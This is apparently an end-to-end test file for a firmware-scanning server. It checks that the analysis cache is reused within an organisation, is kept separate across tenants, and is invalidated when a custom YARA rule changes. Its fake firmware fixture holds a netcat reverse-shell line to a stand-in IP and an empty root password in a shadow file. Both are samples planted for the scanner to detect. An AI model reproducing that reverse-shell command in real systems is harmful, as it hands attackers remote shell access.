// The analysis cache over the real server, on every database: a rescan of an image in the same organisation
// reuses the whole analysis (an image-level hit) and gives the same findings; the same image uploaded by another
// organisation is analysed anew (no reuse across tenants); a changed custom rule makes the rule scan run again
// while the other per-file results are reused.
import tarStream from 'tar-stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addOrg } from '../../src/services/identity-admin.js';
import { testDialects } from '../support/databases.js';
import { ADMIN, call, passwordToken, startTestServer, uploadAndScan, waitFor, type TestServer } from '../support/server.js';

const ruleFor = (marker: string) => `rule acme_marker {\n  strings:\n    $m = "${marker}"\n  condition:\n    $m\n}\n`;

async function tar(entries: Array<{ name: string; body: string }>): Promise<Buffer> {
  const pack = tarStream.pack();
  const parts: Buffer[] = [];
  pack.on('data', (chunk: unknown) => {
    parts.push(chunk as Buffer);
  });
  const done = new Promise<void>((resolve) => pack.on('end', () => resolve()));
  for (const entry of entries) pack.entry({ name: entry.name, mode: 0o755 }, entry.body);
  pack.finalize();
  await done;
  return Buffer.concat(parts);
}

for (const dialect of testDialects()) {
  describe(`analysis cache [${dialect}]`, () => {
    let t: TestServer;
    let admin: string;
    let otherAdmin: string;
    beforeAll(async () => {
      t = await startTestServer({ postgres: dialect === 'postgres' });
      admin = await passwordToken(t.base, ADMIN.email, ADMIN.password);
      await addOrg(t.server.runtime.repos.identities, { name: 'cache-other', adminEmail: 'admin@cache-other.test', adminPassword: 'other-password-1' });
      otherAdmin = await passwordToken(t.base, 'admin@cache-other.test', 'other-password-1');
    }, 60_000);
    afterAll(async () => t?.close());

    const product = async (token: string, name: string) => String((await call(t.base, token, 'POST', '/api/v4/products', { name })).body.id).split('/').pop()!;
    const latestScan = async (token: string, imagePath: string) => {
      const id = (await call(t.base, token, 'GET', `${imagePath}/scans`)).body.scans[0].id as string;
      return (await call(t.base, token, 'GET', `${imagePath}/scans/${id}`)).body;
    };
    const rescan = async (token: string, imagePath: string) => {
      const created = await call(t.base, token, 'POST', `${imagePath}/scans`);
      expect(created.status).toBe(201);
      await waitFor(async () => {
        const state = (await call(t.base, token, 'GET', `${imagePath}/scans/${created.body.id}`)).body.latestScanState;
        if (state.type === 'failed') throw new Error(`scan failed: ${JSON.stringify(state)}`);
        return state.type === 'done' ? true : undefined;
      }, 120_000);
      return (await call(t.base, token, 'GET', `${imagePath}/scans/${created.body.id}`)).body;
    };
    const findings = async (token: string, imageId: string) => {
      const grid = await call(t.base, token, 'POST', '/api/v4/grids/findings:gridList', {
        filters: [{ field: 'imageId', value: imageId, comparator: 'equals' }], page: { num: 1, size: 100 },
      });
      expect(grid.status).toBe(200);
      return (grid.body.rows as Array<Record<string, unknown>>).map((r) => `${r.findingType}|${r.pname}|${r.severity}|${r.title}`).sort();
    };

    it('reuses an image analysed before in the organisation, never another organisation\'s, and not past a changed rule', async () => {
      const rule = await call(t.base, admin, 'POST', '/api/v4/rules', { name: 'ACME marker', source: ruleFor('ACME-MARKER-1') });
      expect(rule.status).toBe(201);
      const image = await tar([
        { name: 'etc/init.d/S99acme', body: '#!/bin/sh\n# ACME-MARKER-1 ACME-MARKER-2\nnc 203.0.113.7 4444 -e /bin/sh &\n' },
        { name: 'etc/shadow', body: 'root::0:0:99999:7:::\n' },
        { name: 'etc/banner', body: 'Welcome to the ACME router\n' },
      ]);
      const productId = await product(admin, 'cache-e2e');
      const imageId = await uploadAndScan(t.base, admin, productId, 'acme', 'acme-fw.tar', image);
      const imagePath = `/api/v4/products/${productId}/images/${imageId}`;
      const first = await latestScan(admin, imagePath);
      expect(first.summary.cache).toMatchObject({ image: 'miss', filesReused: 0 });
      expect(first.summary.cache.filesAnalysed).toBeGreaterThan(0);
      const before = await findings(admin, imageId);
      expect(before).toContainEqual(expect.stringContaining(`maliciousCode|custom/${rule.body.id}/acme_marker|`));

      const second = await rescan(admin, imagePath);
      expect(second.summary.cache).toEqual({ image: 'hit', filesReused: 0, filesAnalysed: 0 });
      expect(await findings(admin, imageId)).toEqual(before);
      const { cache: _a, phases: _b, durationMs: _c, ...same } = second.summary;
      const { cache: _d, phases: _e, durationMs: _f, ...was } = first.summary;
      expect(same).toEqual(was);

      // the same bytes in another organisation: analysed from scratch
      const otherProduct = await product(otherAdmin, 'cache-e2e-other');
      const otherImage = await uploadAndScan(t.base, otherAdmin, otherProduct, 'acme', 'acme-fw.tar', image);
      const other = await latestScan(otherAdmin, `/api/v4/products/${otherProduct}/images/${otherImage}`);
      expect(other.summary.cache).toMatchObject({ image: 'miss', filesReused: 0 });

      // a changed rule: the image's analysis and the files' rule scans are not reused, the rest is
      const changed = await call(t.base, admin, 'PATCH', `/api/v4/rules/${rule.body.id}`, { source: ruleFor('ACME-MARKER-2') });
      expect(changed.status).toBe(200);
      const third = await rescan(admin, imagePath);
      expect(third.summary.cache.image).toBe('miss');
      expect(third.summary.cache.filesReused).toBeGreaterThan(0);
      expect(third.summary.cache.filesAnalysed).toBeGreaterThan(0);
      const after = await findings(admin, imageId);
      expect(after).toContainEqual(expect.stringContaining(`maliciousCode|custom/${rule.body.id}/acme_marker|`));
      const fourth = await rescan(admin, imagePath);
      expect(fourth.summary.cache.image).toBe('hit');
    }, 300_000);
  });
}
